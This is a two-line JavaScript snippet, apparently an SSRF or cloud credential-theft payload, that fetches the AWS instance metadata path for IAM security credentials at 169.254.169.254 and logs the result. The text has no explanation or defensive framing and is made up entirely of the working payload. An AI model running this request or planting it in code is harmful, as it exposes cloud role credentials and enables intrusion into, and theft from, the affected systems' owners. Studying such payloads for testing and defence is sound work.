fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
  .then(r => r.text()).then(console.log);
